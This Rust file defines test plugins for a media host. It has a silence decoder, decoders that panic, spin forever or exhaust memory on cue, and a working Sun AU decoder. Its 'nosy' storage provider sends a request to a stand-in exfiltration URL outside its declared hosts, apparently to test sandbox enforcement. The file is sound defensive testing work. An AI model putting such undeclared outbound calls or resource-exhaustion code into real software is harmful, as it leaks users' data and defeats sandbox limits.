//! Plugins for testing hosts: ones that panic, and a trivial one that always works.
//! Thin `cdylib` crates next to this one export them as native libraries.

use std::sync::Arc;

use tonearm_plugin_api::{
    ByteRange, ByteSource, ChangePage, DecodeSession, Decoder, Instantiate, ListPage,
    PluginDescriptor, PluginKind, PluginManifest, PluginResult, ProbeHint, StorageProvider,
    StreamSpec, crate_version,
};

fn manifest(id: &str, kind: PluginKind, extension: &str) -> PluginManifest {
    let mut m = PluginManifest::new(id, id, crate_version!(), kind);
    m.description = "a test plugin".into();
    if kind == PluginKind::Decoder {
        m.formats.extensions = vec![extension.into()];
    }
    m
}

/// Decodes one second of silence from anything named `.quiet`.
pub static QUIET_DECODER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("quiet", PluginKind::Decoder, "quiet"),
    instantiate: Instantiate::Decoder(|_| Ok(Box::new(Quiet))),
};

struct Quiet;

struct Silence(u32);

impl Decoder for Quiet {
    fn probe(&self, _: &[u8], hint: &ProbeHint) -> PluginResult<u8> {
        Ok(if hint.extension.as_deref() == Some("quiet") {
            50
        } else {
            0
        })
    }

    fn open(&self, _: Arc<dyn ByteSource>, _: &ProbeHint) -> PluginResult<Box<dyn DecodeSession>> {
        Ok(Box::new(Silence(0)))
    }
}

impl DecodeSession for Silence {
    fn spec(&self) -> StreamSpec {
        StreamSpec {
            sample_rate: 8000,
            channels: 1,
            total_frames: Some(8000),
            codec: "silence".into(),
            bits_per_sample: None,
        }
    }

    fn read(&mut self, out: &mut Vec<f32>) -> PluginResult<usize> {
        out.clear();
        let frames = 8000u32.saturating_sub(self.0).min(1000);
        self.0 += frames;
        out.resize(frames as usize, 0.0);
        Ok(frames as usize)
    }

    fn seek(&mut self, frame: u64) -> PluginResult<u64> {
        self.0 = frame.min(8000) as u32;
        Ok(u64::from(self.0))
    }
}

/// Claims `.panic` files; panics in `probe` on a head starting with `PANIC`, and in every
/// `read`.
pub static PANICKY_DECODER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("panicky-decoder", PluginKind::Decoder, "panic"),
    instantiate: Instantiate::Decoder(|_| Ok(Box::new(Panicky))),
};

struct Panicky;

struct PanickySession;

impl Decoder for Panicky {
    fn probe(&self, head: &[u8], _: &ProbeHint) -> PluginResult<u8> {
        assert!(!head.starts_with(b"PANIC"), "probe exploded");
        Ok(10)
    }

    fn open(&self, _: Arc<dyn ByteSource>, _: &ProbeHint) -> PluginResult<Box<dyn DecodeSession>> {
        Ok(Box::new(PanickySession))
    }
}

impl DecodeSession for PanickySession {
    fn spec(&self) -> StreamSpec {
        StreamSpec {
            sample_rate: 8000,
            channels: 1,
            total_frames: None,
            codec: "panic".into(),
            bits_per_sample: None,
        }
    }

    fn read(&mut self, _: &mut Vec<f32>) -> PluginResult<usize> {
        panic!("read exploded")
    }

    fn seek(&mut self, _: u64) -> PluginResult<u64> {
        panic!("seek exploded")
    }
}

/// A storage provider whose listing panics.
pub static PANICKY_PROVIDER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("panicky-provider", PluginKind::StorageProvider, ""),
    instantiate: Instantiate::StorageProvider(|_| Ok(Box::new(PanickyProvider))),
};

struct PanickyProvider;

impl StorageProvider for PanickyProvider {
    fn change_cursor(&self) -> PluginResult<String> {
        Ok("c".into())
    }

    fn list(&self, _: Option<&str>) -> PluginResult<ListPage> {
        panic!("list exploded")
    }

    fn changes(&self, _: &str) -> PluginResult<ChangePage> {
        panic!("changes exploded")
    }

    fn read_range(&self, _: &str, _: ByteRange) -> PluginResult<Vec<u8>> {
        panic!("read_range exploded")
    }
}

/// A decoder that misbehaves on cue, by the first bytes it probes: `LOOP` never returns,
/// `HOG` allocates until memory runs out, `PANIC` panics; anything else scores 1.
pub static MISBEHAVING_DECODER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("misbehaving-decoder", PluginKind::Decoder, "bad"),
    instantiate: Instantiate::Decoder(|_| Ok(Box::new(Misbehaving))),
};

struct Misbehaving;

impl Decoder for Misbehaving {
    fn probe(&self, head: &[u8], _: &ProbeHint) -> PluginResult<u8> {
        if head.starts_with(b"LOOP") {
            let mut spins = 0u64;
            loop {
                spins = std::hint::black_box(spins.wrapping_add(1));
            }
        }
        if head.starts_with(b"HOG") {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        if head.starts_with(b"SLEEP") {
            // In a component: WASI's clock and poll, where no epoch deadline reaches.
            std::thread::sleep(std::time::Duration::from_secs(3600));
        }
        assert!(!head.starts_with(b"PANIC"), "probe exploded");
        Ok(1)
    }

    fn open(&self, _: Arc<dyn ByteSource>, _: &ProbeHint) -> PluginResult<Box<dyn DecodeSession>> {
        Ok(Box::new(Silence(0)))
    }
}

/// A provider that tries to reach a host its manifest does not declare.
pub static NOSY_PROVIDER: PluginDescriptor = PluginDescriptor {
    manifest: || {
        let mut m = manifest("nosy-provider", PluginKind::StorageProvider, "");
        m.capabilities.http_hosts = vec!["api.allowed.example".into()];
        m
    },
    instantiate: Instantiate::StorageProvider(|ctx| Ok(Box::new(Nosy(ctx.clone())))),
};

struct Nosy(tonearm_plugin_api::HostContext);

impl StorageProvider for Nosy {
    fn change_cursor(&self) -> PluginResult<String> {
        Ok("c".into())
    }

    fn list(&self, _: Option<&str>) -> PluginResult<ListPage> {
        let http = self.0.require_http()?;
        let request = tonearm_plugin_api::HttpRequest {
            method: "GET".into(),
            url: "https://exfiltrate.example/steal".into(),
            ..Default::default()
        };
        http.send(request)?;
        Ok(ListPage::default())
    }

    fn changes(&self, _: &str) -> PluginResult<ChangePage> {
        Ok(ChangePage::default())
    }

    fn read_range(&self, _: &str, _: ByteRange) -> PluginResult<Vec<u8>> {
        Ok(Vec::new())
    }
}

/// Decodes Sun AU files (16-bit and float linear PCM), a format the host's tag reader does
/// not know: its annotation's `key=value` lines are its tags, reported by `describe`.
pub static SUN_AU_DECODER: PluginDescriptor = PluginDescriptor {
    manifest: || {
        let mut m = manifest("sun-au", PluginKind::Decoder, "au");
        m.formats.magic = vec![tonearm_plugin_api::MagicPattern::new(0, b".snd")];
        m
    },
    instantiate: Instantiate::Decoder(|_| Ok(Box::new(SunAu))),
};

struct SunAu;

/// An AU header: where the samples are and what they are.
struct AuHeader {
    data_offset: u64,
    data_len: u64,
    float: bool,
    sample_rate: u32,
    channels: u16,
    annotation: String,
}

impl AuHeader {
    fn read(source: &dyn ByteSource) -> PluginResult<Self> {
        use tonearm_plugin_api::PluginError;
        let mut fixed = [0u8; 24];
        if source.read_at(0, &mut fixed)? < 24 || &fixed[..4] != b".snd" {
            return Err(PluginError::Unsupported("not a Sun AU file".into()));
        }
        let word =
            |i: usize| u32::from_be_bytes([fixed[i], fixed[i + 1], fixed[i + 2], fixed[i + 3]]);
        let (offset, size, encoding) = (word(4), word(8), word(12));
        let float = match encoding {
            3 => false,
            6 => true,
            other => return Err(PluginError::Unsupported(format!("AU encoding {other}"))),
        };
        let channels = u16::try_from(word(20))
            .ok()
            .filter(|&c| c > 0)
            .ok_or_else(|| PluginError::Corrupt("AU channel count".into()))?;
        let len = source.len()?;
        let data_offset = u64::from(offset).max(24).min(len);
        let mut text = vec![0u8; (data_offset - 24) as usize];
        let n = source.read_at(24, &mut text)?;
        text.truncate(n);
        let annotation = String::from_utf8_lossy(&text)
            .trim_end_matches('\0')
            .to_owned();
        let available = len - data_offset;
        let data_len = if size == u32::MAX {
            available
        } else {
            u64::from(size).min(available)
        };
        Ok(Self {
            data_offset,
            data_len,
            float,
            sample_rate: word(16),
            channels,
            annotation,
        })
    }

    fn frame_bytes(&self) -> u64 {
        u64::from(self.channels) * if self.float { 4 } else { 2 }
    }

    fn spec(&self) -> StreamSpec {
        StreamSpec {
            sample_rate: self.sample_rate,
            channels: self.channels,
            total_frames: Some(self.data_len / self.frame_bytes()),
            codec: if self.float { "pcm_f32be" } else { "pcm_s16be" }.into(),
            bits_per_sample: Some(if self.float { 32 } else { 16 }),
        }
    }
}

impl Decoder for SunAu {
    fn probe(&self, head: &[u8], _: &ProbeHint) -> PluginResult<u8> {
        Ok(if head.starts_with(b".snd") { 100 } else { 0 })
    }

    fn open(
        &self,
        source: Arc<dyn ByteSource>,
        _: &ProbeHint,
    ) -> PluginResult<Box<dyn DecodeSession>> {
        let header = AuHeader::read(source.as_ref())?;
        Ok(Box::new(AuSession {
            source,
            header,
            frame: 0,
        }))
    }

    fn describe(
        &self,
        source: Arc<dyn ByteSource>,
        _: &ProbeHint,
    ) -> PluginResult<tonearm_plugin_api::MediaInfo> {
        let header = AuHeader::read(source.as_ref())?;
        let mut tags = tonearm_plugin_api::TrackTags::default();
        for (key, value) in header.annotation.lines().filter_map(|l| l.split_once('=')) {
            match key {
                "title" => tags.title = Some(value.to_owned()),
                "artist" => tags.artists.push(value.to_owned()),
                "album" => tags.album = Some(value.to_owned()),
                "track" => tags.track_number = value.parse().ok(),
                _ => {}
            }
        }
        Ok(tonearm_plugin_api::MediaInfo {
            stream: header.spec(),
            tags,
        })
    }
}

struct AuSession {
    source: Arc<dyn ByteSource>,
    header: AuHeader,
    frame: u64,
}

impl DecodeSession for AuSession {
    fn spec(&self) -> StreamSpec {
        self.header.spec()
    }

    fn read(&mut self, out: &mut Vec<f32>) -> PluginResult<usize> {
        out.clear();
        let frame_bytes = self.header.frame_bytes();
        let total = self.header.data_len / frame_bytes;
        let frames = total.saturating_sub(self.frame).min(4096);
        let mut bytes = vec![0u8; (frames * frame_bytes) as usize];
        let offset = self.header.data_offset + self.frame * frame_bytes;
        let n = self.source.read_at(offset, &mut bytes)?;
        bytes.truncate(n - n % frame_bytes as usize);
        if self.header.float {
            out.extend(
                bytes
                    .chunks_exact(4)
                    .map(|b| f32::from_be_bytes([b[0], b[1], b[2], b[3]])),
            );
        } else {
            out.extend(
                bytes
                    .chunks_exact(2)
                    .map(|b| f32::from(i16::from_be_bytes([b[0], b[1]])) / 32768.0),
            );
        }
        let read = (bytes.len() as u64 / frame_bytes) as usize;
        self.frame += read as u64;
        Ok(read)
    }

    fn seek(&mut self, frame: u64) -> PluginResult<u64> {
        self.frame = frame.min(self.header.data_len / self.header.frame_bytes());
        Ok(self.frame)
    }
}
